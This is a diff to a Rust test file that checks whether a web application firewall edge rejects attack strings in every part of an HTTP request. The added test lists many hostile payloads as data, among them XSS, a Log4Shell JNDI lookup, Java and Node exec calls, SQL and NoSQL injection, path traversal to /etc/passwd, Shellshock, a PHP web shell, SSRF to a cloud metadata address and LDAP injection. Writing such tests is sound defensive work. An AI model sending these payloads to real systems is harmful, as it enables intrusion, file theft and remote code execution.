@@ -3,7 +3,7 @@
 mod site;
 
 use fosse_harness::{Backend, Client};
-use site::{ask, core_rule_set, edge, request, rules, status, with_core_rule_set};
+use site::{ask, core_rule_set, edge, everywhere, in_heads, request, rules, status, with_core_rule_set};
 
 const MULTIPART: &str = "Content-Type: multipart/form-data; boundary=XX";
 
@@ -51,6 +51,49 @@ fn attacks_are_denied_in_every_place_and_ordinary_requests_pass() {
     }
     assert_eq!(backend.requests(), ordinary.len());
     assert_eq!(status(&edge, &request("POST /", &[json], b"{\"a\":")), 400, "a body that is not what it says");
+}
+
+#[test]
+fn attacks_of_every_family_are_denied_in_every_place() {
+    let Some(from) = core_rule_set() else { return };
+    let backend = Backend::start();
+    let rules = with_core_rule_set(&from);
+    let edge = edge(&backend, &rules, "");
+    let denied = |attack: &str, place: &str, request: &[u8]| {
+        assert_eq!(status(&edge, request), 403, "{attack} in {place}: {}", edge.log());
+    };
+    // Above the first line what is seen in heads as well; below, where the set looks for it at paranoia level 1.
+    for attack in [
+        "<script>alert(1)</script>",
+        "${jndi:ldap://198.51.100.7/a}",
+        "${T(java.lang.Runtime).getRuntime().exec('id')}",
+        "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
+        "java.lang.Runtime.getRuntime().exec('id')",
+    ] {
+        in_heads(attack).iter().for_each(|(place, request)| denied(attack, place, request));
+        everywhere(attack).iter().for_each(|(place, request)| denied(attack, place, request));
+    }
+    for attack in [
+        "1' AND SLEEP(5)-- -",
+        "../../../../etc/passwd",
+        "() { :;}; /bin/bash -c id",
+        "a;${IFS}cat${IFS}/etc/passwd",
+        "<?php system($_GET['c']); ?>",
+        "{{constructor.constructor('alert(1)')()}}",
+        "require('child_process').exec('id')",
+        "{\"$where\":\"sleep(1000)\"}",
+        "file:///etc/passwd",
+    ] {
+        everywhere(attack).iter().for_each(|(place, request)| denied(attack, place, request));
+    }
+    for (what, one) in [
+        ("SSRF", request("GET /?u=http://169.254.169.254/latest/meta-data/", &[], b"")),
+        ("LDAP", request("GET /?u=*)(uid=*))(|(uid=*", &[], b"")),
+        ("scanner", request("GET /", &["User-Agent: sqlmap/1.7"], b"")),
+    ] {
+        denied(what, "its place", &one);
+    }
+    assert_eq!(backend.requests(), 0);
 }
 
 #[test]
